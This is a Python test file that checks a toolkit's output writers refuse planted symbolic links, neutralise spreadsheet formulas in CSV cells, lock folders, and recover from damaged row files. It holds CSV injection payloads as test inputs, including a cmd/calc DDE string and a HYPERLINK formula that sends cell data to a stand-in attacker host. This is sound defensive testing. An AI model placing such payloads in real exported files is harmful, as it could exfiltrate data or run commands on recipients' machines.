"""Output folders that cannot be used to overwrite other files (issue 24, hostile inputs built here): a symbolic
link planted under the name of each output of `run`, `report`, `benchmark`, `ablate` and `demo-data` (and
subfolders that are links leaving the folder) leaves the file outside unchanged and gives one `error:` line;
CSV cells cannot become spreadsheet formulas; one run per output folder (lock); `benchmark --resume` over a
rows.jsonl damaged in the middle keeps the rest, names the line and redoes only the lost sample."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

import groundkit as gk
from groundkit.bench.datasets import load_dataset
from groundkit.bench.rows import read_rows, repair_tail
from groundkit.bench.runner import run_benchmark
from groundkit.cli import main
from groundkit.core import outdir as od
from groundkit.core.lock import LOCK_FILE, FolderBusyError, FolderLock
from groundkit.data import synthetic

VICTIM = b"precious: must never be overwritten\n"  # no trailing-newline repair may cut it either
FAST = {"steps": "49:50", "tokens": "all"}
BENCH = ["benchmark", "-c", "demo", "--dataset", "synthetic", "--set", "steps=49:50", "--set", "tokens=all",
         "--no-page", "--no-progress"]


@pytest.fixture(scope="module")
def demo():
    return gk.load("demo", device="cpu")


@pytest.fixture(scope="module")
def data(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("synthetic") / "data"
    synthetic.generate(d, n=3, seed=5, size=64)
    return d


@pytest.fixture
def victim(tmp_path) -> Path:
    v = tmp_path / "outside" / "victim.txt"
    v.parent.mkdir()
    v.write_bytes(VICTIM)
    return v


def _plant(folder: Path, name: str, target: Path) -> Path:
    link = folder / name
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)
    return link


def _untouched(victim: Path, *links: Path) -> None:
    assert victim.read_bytes() == VICTIM
    assert sorted(p.name for p in victim.parent.iterdir()) == [victim.name]  # nothing new outside either
    for link in links:
        assert link.is_symlink()


def _gk(capsys, monkeypatch, *args: str) -> tuple[int, str]:
    """The console script in this process: (exit code, stderr)."""
    monkeypatch.delenv("GROUNDKIT_DEBUG", raising=False)
    capsys.readouterr()
    with pytest.raises(SystemExit) as e:
        main(list(args))
    return e.value.code, capsys.readouterr().err


def _one_error(code: int, err: str) -> str:
    assert code == 2, err
    assert "Traceback" not in err, err
    lines = [ln for ln in err.splitlines() if ln.startswith("error: ")]
    assert len(lines) == 1, err
    return lines[0]


def _refused(line: str, path: Path) -> None:
    assert f"refusing to write {path}" in line and ("symbolic link" in line or "outside the output folder" in line), line


# ------------------------------------------------------------------ 1. the writer itself
WRITERS = {
    "bytes": ("x.bin", lambda p, r: od.write_bytes(p, b"new", r)),
    "text": ("x.md", lambda p, r: od.write_text(p, "new", r)),
    "json": ("x.json", lambda p, r: od.write_json(p, {"a": 1}, r)),
    "jsonl": ("x.jsonl", lambda p, r: od.write_jsonl(p, [{"a": 1}], r)),
    "csv": ("x.csv", lambda p, r: od.write_csv(p, ["a"], [["=1+1"]], r)),
    "png": ("x.png", lambda p, r: od.write_png(p, np.zeros((4, 4), np.uint8), r)),
    "npy": ("x.npy", lambda p, r: od.write_npy(p, np.zeros(3), r)),
    "npz": ("x.npz", lambda p, r: od.write_npz(p, {"a": np.zeros(3)}, r)),
    "figure": ("x.png", lambda p, r: od.write_figure(p, _figure(), r)),
    "append": ("x.jsonl", lambda p, r: od.AppendWriter(p, r).write({"a": 1})),
}


def _figure():
    from matplotlib.figure import Figure

    fig = Figure(figsize=(1, 1))
    fig.add_subplot().plot([0, 1])
    return fig


@pytest.mark.parametrize("kind", sorted(WRITERS))
def test_every_writer_refuses_a_planted_link(tmp_path, victim, kind):
    name, write = WRITERS[kind]
    out = tmp_path / "out"
    link = _plant(out, name, victim)
    with pytest.raises(od.UnsafeOutputError) as e:
        write(link, out)
    _refused(str(e.value), link)
    assert f"to {victim}" in str(e.value) and "[Errno" not in str(e.value)
    _untouched(victim, link)
    assert sorted(p.name for p in out.iterdir()) == [name]  # no temporary file left behind


@pytest.mark.parametrize("kind", sorted(WRITERS))
def test_every_writer_refuses_a_path_leaving_the_folder(tmp_path, victim, kind):
    name, write = WRITERS[kind]
    out = tmp_path / "out"
    out.mkdir()
    (out / "sub").symlink_to(victim.parent, target_is_directory=True)  # a subfolder that is a link leaving
    for dest in (out / "sub" / name, out / ".." / "outside" / name):
        with pytest.raises(od.UnsafeOutputError, match="outside the output folder"):
            write(dest, out)
    with pytest.raises(od.UnsafeOutputError, match="symbolic link"):
        od.make_dirs(out / "sub", out)
    _untouched(victim)


@pytest.mark.parametrize("kind", sorted(WRITERS))
def test_every_writer_replaces_a_regular_file_whole(tmp_path, kind):
    name, write = WRITERS[kind]
    out = tmp_path / "out"
    out.mkdir()
    (out / name).write_bytes(b"old")
    write(out / name, out)
    assert sorted(p.name for p in out.iterdir()) == [name]
    data = (out / name).read_bytes()
    if kind == "append":
        assert data == b'old{"a": 1}\n'
    elif name.endswith(".png"):
        assert Image.open(io.BytesIO(data)).size[0] > 0
    elif name.endswith((".npy", ".npz")):
        assert np.load(io.BytesIO(data)) is not None
    else:
        assert data != b"old" and not data.startswith(b"old")


def test_a_damaged_row_file_behind_a_link_is_not_cut(tmp_path, victim):
    link = _plant(tmp_path / "run", "rows.jsonl", victim)
    victim.write_bytes(b'{"a": 1}\n{"torn')  # would be truncated through the link
    with pytest.raises(od.UnsafeOutputError):
        repair_tail(link)
    assert victim.read_bytes() == b'{"a": 1}\n{"torn'


# ------------------------------------------------------------------ 2. CSV formula injection
@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1-2", "'+1-2"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1dcmd", "'\uff1dcmd"),
    ("-", "'-"), ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    # text that is one plain number is read as that number: nothing to neutralise
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-inf", "-inf"), ("0.25", "0.25"),
    # numbers are never changed
    (-0.5, -0.5), (-3, -3), (np.float32(-0.25), np.float32(-0.25)), (None, ""), ("pleural effusion", "pleural effusion"),
])
def test_csv_cells_are_neutralised_text_only(value, expected):
    assert od.csv_safe(value) == expected
    text = od.csv_text(["=h", "v"], [["x", value], {"=h": "=y", "v": value}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=h", "v"] and rows[2][0] == "'=y"
    assert rows[1][1] == str(expected)


def _csv_cells(path: Path) -> list[str]:
    return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]


def _all_safe(path: Path) -> list[str]:
    cells = _csv_cells(path)
    assert cells and all(od.csv_safe(c) == c for c in cells), path  # no cell left that a spreadsheet would run
    return cells


def test_every_csv_groundkit_writes_is_neutralised(tmp_path, capsys, monkeypatch):
    from groundkit.bench.ablation.format import csv_text as ablation_csv
    from groundkit.bench.compare import Comparison
    from groundkit.bench.configs import Config
    from groundkit.bench.tables import build_tables, write_tables

    evil = '=HYPERLINK("http://attacker/?"&A1,"x")'
    # demo-data (plain and with reports): the --split value lands in every row
    for extra in ([], ["--reports"]):
        out = tmp_path / f"data{len(extra)}"
        code, err = _gk(capsys, monkeypatch, "demo-data", "--out", str(out), "--n", "2", "--size", "64", "--split", evil, *extra)
        assert code == 0, err
        cells = _all_safe(out / synthetic.CSV_NAME)
        assert "'" + evil in cells and any(c.replace(".", "", 1).isdigit() for c in cells)
        assert len(load_dataset("synthetic", data=out)) >= 2  # still a dataset groundkit reads
    # benchmark tables: a checkpoint label and a phrase that are formulas
    cfg = Config(evil, evil, "", "diffusers-sd", dict(gk.get_recipe("nuetzel2025").to_dict()), "d1", "nuetzel",
                 ("miou_fgbg", "cnr", "top1", "auroc"))
    rows = [{"checkpoint": evil, "sample_id": f"s{i}", "recipe_digest": "d1", "category": "Pneumonia", "phrase": "-1+1",
             "miou_fgbg": -0.5 + i, "cnr": -1.25, "top1": 1.0, "auroc": 0.5, "error": None} for i in range(3)]
    files = write_tables(build_tables(rows, [cfg], dataset="synthetic"), tmp_path / "bench")
    csvs = [p for k, p in files.items() if k.endswith(".csv")]
    assert csvs and any("'" + evil in _all_safe(p) for p in csvs)
    # compare.csv: formula text is neutralised, negative numbers stay numbers
    cmp = Comparison("a", "b", "nuetzel", ("cnr",), 100, 0, 0.95, [
        {"metric": "cnr", "category": evil, "n": 3, "mean_a": -0.5, "mean_b": 0.25, "diff": -0.75, "lo": -1.0, "hi": -0.5}])
    cells = _all_safe(cmp.write_csv(tmp_path / "cmp" / "compare.csv"))
    assert "'" + evil in cells and "-0.5" in cells and "-0.75" in cells
    # the ablation's CSVs
    text = ablation_csv(["layers", "value"], [[evil, -0.5], ["all", float("nan")]])
    assert list(csv.reader(io.StringIO(text))) == [["layers", "value"], ["'" + evil, "-0.5"], ["all", ""]]


# ------------------------------------------------------------------ 3. groundkit run / report
@pytest.mark.parametrize("name", ["heatmap.npy", "mask.png", "overlay.png", "result.json", "tokens.png"])
def test_cli_run_refuses_a_planted_link(tmp_path, victim, capsys, monkeypatch, name):
    out = tmp_path / "out"
    link = _plant(out, name, victim)
    line = _one_error(*_gk(capsys, monkeypatch, "run", "--no-progress", "--token-maps", "-o", str(out)))
    _refused(line, link)
    _untouched(victim, link)
    assert sorted(p.name for p in out.iterdir()) == [name]  # refused before anything was written


def test_grounding_save_refuses_every_planted_link(demo, tmp_path, victim):
    g = demo.ground(str(Path(gk.__file__).parent / "assets" / "demo" / "sample.png"), "pleural effusion",
                    token_maps=True, progress=False, **FAST)
    for name in ("heatmap.npy", "mask.png", "overlay.png", "tokens.png", "result.json"):
        out = tmp_path / name
        link = _plant(out, name, victim)
        with pytest.raises(od.UnsafeOutputError) as e:
            g.save(out)
        _refused(str(e.value), link)
        _untouched(victim, link)
        assert sorted(p.name for p in out.iterdir()) == [name]
    g.save(tmp_path / "ok")  # a clean folder still works
    assert {"heatmap.npy", "mask.png", "overlay.png", "tokens.png", "result.json"} <= {p.name for p in (tmp_path / "ok").iterdir()}


@pytest.mark.parametrize("name", ["overlay.png", "findings.json", "report.html", "finding_0_mask.png", "finding_0_heatmap.npy"])
def test_cli_report_refuses_a_planted_link(tmp_path, victim, capsys, monkeypatch, name):
    out = tmp_path / "out"
    link = _plant(out, name, victim)
    line = _one_error(*_gk(capsys, monkeypatch, "report", "--no-progress", "-o", str(out)))
    _refused(line, link)
    _untouched(victim, link)


def test_report_save_refuses_a_planted_link(demo, tmp_path, victim):
    demo_dir = Path(gk.__file__).parent / "assets" / "demo"
    rg = demo.ground_report(str(demo_dir / "sample_report.png"), (demo_dir / "sample_report.txt").read_text(),
                            progress=False, **FAST)
    assert rg.positive
    i = rg.findings.index(rg.positive[-1])
    for name in (f"finding_{i}_mask.png", f"finding_{i}_heatmap.npy", "overlay.png", "report.html", "findings.json"):
        out = tmp_path / name
        link = _plant(out, name, victim)
        with pytest.raises(od.UnsafeOutputError):
            rg.save(out)
        _untouched(victim, link)
        assert sorted(p.name for p in out.iterdir()) == [name]


# ------------------------------------------------------------------ 4. benchmark
@pytest.mark.parametrize("name", ["rows.jsonl", "run.json", "tables.md", "summary.json", "benchmark.html"])
def test_cli_benchmark_refuses_a_planted_link(tmp_path, data, victim, capsys, monkeypatch, name):
    out = tmp_path / "run"
    link = _plant(out, name, victim)
    line = _one_error(*_gk(capsys, monkeypatch, *BENCH, "--data", str(data), "--out", str(out)))
    _refused(line, link)
    _untouched(victim, link)
    assert sorted(p.name for p in out.iterdir()) == [name]


@pytest.mark.parametrize("name", ["tables", "tables/summary.csv", "figures", "gallery", "rows.jsonl@resume"])
def test_benchmark_subfolders_and_late_files_are_refused(demo, tmp_path, data, victim, name):
    """Links met only at the end of a run (tables/, figures/, gallery/, a rows file planted before a resume)."""
    out = tmp_path / "run"
    samples = load_dataset("synthetic", data=data)
    if name.endswith("@resume"):
        run_benchmark([demo], None, FAST, samples, out, progress=False, tables=False, limit=1)
        (out / "rows.jsonl").unlink()
    target = victim.parent if "." not in name else victim
    link = _plant(out, name.split("@")[0], target)
    with pytest.raises(od.UnsafeOutputError) as e:
        run_benchmark([demo], None, FAST, samples, out, progress=False, page=True, gallery=True)
    assert "refusing to write" in str(e.value)
    _untouched(victim, link)
    assert not (out / LOCK_FILE).exists()  # the lock is released on the way out


def test_compare_refuses_a_planted_link(demo, tmp_path, data, victim, capsys, monkeypatch):
    run = tmp_path / "run"
    run_benchmark([demo], None, FAST, load_dataset("synthetic", data=data), run, progress=False, tables=False)
    run2 = Path(shutil.copytree(run, tmp_path / "run2"))
    for name in ("compare.md", "compare.csv"):
        out = tmp_path / f"cmp-{name}"
        link = _plant(out, name, victim)
        line = _one_error(*_gk(capsys, monkeypatch, "benchmark", "--compare", str(run), str(run2), "--bootstrap", "100",
                               "--out", str(out)))
        _refused(line, link)
        _untouched(victim, link)
        assert sorted(p.name for p in out.iterdir()) == [name]


# ------------------------------------------------------------------ 5. ablate
def test_cli_ablate_refuses_a_planted_link(tmp_path, data, victim, capsys, monkeypatch):
    out = tmp_path / "abl"
    link = _plant(out, "table.md", victim)
    line = _one_error(*_gk(capsys, monkeypatch, "ablate", "-c", "demo", "--data", str(data), "--steps-grid", "49:50",
                           "--layers-grid", "all", "--post", "none", "--no-progress", "--out", str(out)))
    _refused(line, link)
    _untouched(victim, link)


@pytest.mark.parametrize("name", ["store", "heatmap_cnr_none.png", "rows.jsonl"])
def test_ablation_store_plots_and_rows_are_refused(demo, tmp_path, data, victim, name):
    from groundkit.bench.ablation import run_ablation

    out = tmp_path / "abl"
    link = _plant(out, name, victim.parent if name == "store" else victim)
    with pytest.raises(od.UnsafeOutputError):
        run_ablation(demo, load_dataset("synthetic", data=data), None, "all", "49:50", ["none"], ["cnr"], out,
                     progress=False, overrides={"tokens": "all"})
    _untouched(victim, link)
    assert not (out / LOCK_FILE).exists()


# ------------------------------------------------------------------ 6. demo-data
@pytest.mark.parametrize("name", [synthetic.CSV_NAME, "images/synth-0-00001.png", "images", "reports/synth-report-0-00000.txt"])
def test_cli_demo_data_refuses_a_planted_link(tmp_path, victim, capsys, monkeypatch, name):
    out = tmp_path / "data"
    link = _plant(out, name, victim.parent if name == "images" else victim)
    extra = ["--reports"] if name.startswith("reports") else []
    line = _one_error(*_gk(capsys, monkeypatch, "demo-data", "--out", str(out), "--n", "2", "--size", "64", *extra))
    _refused(line, link)
    _untouched(victim, link)


# ------------------------------------------------------------------ 7. one run per folder
def test_second_run_on_the_same_folder_is_refused(tmp_path, data, capsys, monkeypatch):
    out = tmp_path / "run"
    with FolderLock(od.ensure_dir(out), "benchmark"):  # another run holds the folder
        line = _one_error(*_gk(capsys, monkeypatch, *BENCH, "--data", str(data), "--out", str(out)))
        assert str(out) in line and f"pid {os.getpid()}" in line and socket.gethostname() in line
        assert "in use by another groundkit run" in line and "--out" in line
        line = _one_error(*_gk(capsys, monkeypatch, "ablate", "-c", "demo", "--data", str(data), "--steps-grid", "49:50",
                               "--layers-grid", "all", "--post", "none", "--no-progress", "--out", str(out)))
        assert str(out) in line and f"pid {os.getpid()}" in line
        assert not (out / "rows.jsonl").exists() and not (out / "store").exists()
    assert not (out / LOCK_FILE).exists()


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def _write_lock(folder: Path, **info) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / LOCK_FILE).write_text(json.dumps({"host": socket.gethostname(), "command": "benchmark", **info}))
    return folder / LOCK_FILE


def test_stale_locks_are_taken_over_and_live_ones_are_not(tmp_path):
    out = tmp_path / "run"
    _write_lock(out, pid=_dead_pid())  # killed with -9: its pid is gone
    lock = FolderLock(out).acquire()
    assert lock.note and "gone" in lock.note
    with pytest.raises(FolderBusyError, match=f"pid {os.getpid()}"):
        FolderLock(out).acquire()
    lock.release()
    assert not (out / LOCK_FILE).exists()
    zombie = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        _write_lock(out, pid=zombie.pid)
        with pytest.raises(FolderBusyError):  # alive
            FolderLock(out).acquire()
        zombie.kill()
        time.sleep(0.5)  # killed, not reaped yet: a zombie holds no folder
        FolderLock(out).acquire().release()
    finally:
        zombie.kill()
        zombie.wait()
    _write_lock(out, pid=os.getpid(), start="1")  # this pid, but another process start time: the pid was reused
    FolderLock(out).acquire().release()
    _write_lock(out, pid=_dead_pid(), host="another-host")  # cannot be checked from here: never taken over
    with pytest.raises(FolderBusyError, match=f"another-host.*delete {re.escape(str(out / LOCK_FILE))}"):
        FolderLock(out).acquire()
    (out / LOCK_FILE).write_text("")  # a run killed while writing its lock: busy a while, then stale
    with pytest.raises(FolderBusyError):
        FolderLock(out).acquire()
    old = time.time() - 120
    os.utime(out / LOCK_FILE, (old, old))
    FolderLock(out).acquire().release()


# ------------------------------------------------------------------ 8. resume over a damaged rows.jsonl
def test_resume_over_a_damaged_middle_line_keeps_the_rest(demo, tmp_path, data, capsys):
    out = tmp_path / "run"
    samples = load_dataset("synthetic", data=data)
    first = run_benchmark([demo], None, FAST, samples, out, progress=False, tables=False)
    assert first.new_rows == 3
    lines = (out / "rows.jsonl").read_text().splitlines(keepends=True)
    lost = json.loads(lines[1])["sample_id"]
    lines[1] = lines[1][:40] + "\x00garbage" + lines[1][60:]  # damaged in the middle, not at the end
    (out / "rows.jsonl").write_text("".join(lines))
    capsys.readouterr()
    again = run_benchmark([demo], None, FAST, samples, out, progress=False, tables=False)
    err = capsys.readouterr().err
    assert f"warning: {out / 'rows.jsonl'}, line 2: not valid JSON" in err and "run again" in err
    assert again.new_rows == 1 and again.skipped == 2
    rows = read_rows(out / "rows.jsonl")
    assert sorted(r["sample_id"] for r in rows) == sorted(s.sample_id for s in samples)
    assert [r for r in rows if r["sample_id"] != lost] == [json.loads(x) for i, x in enumerate(lines) if i != 1]
    assert "garbage" not in (out / "rows.jsonl").read_text()  # written clean at the end
    run = json.loads((out / "run.json").read_text())
    assert "line 2" in run["sessions"][-1]["damaged_lines"][0]
